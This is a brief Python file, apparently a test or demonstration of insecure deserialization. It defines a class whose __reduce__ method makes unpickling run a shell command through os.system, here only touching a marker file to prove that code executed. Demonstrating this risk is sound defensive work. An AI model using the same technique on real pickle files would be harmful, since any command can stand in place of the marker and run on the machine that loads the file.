"""What a pickle can do that is opened without care."""

import os
from pathlib import Path


class Harm:
    """Runs a program when it is unpickled; the file shows that it did."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self._path}",)
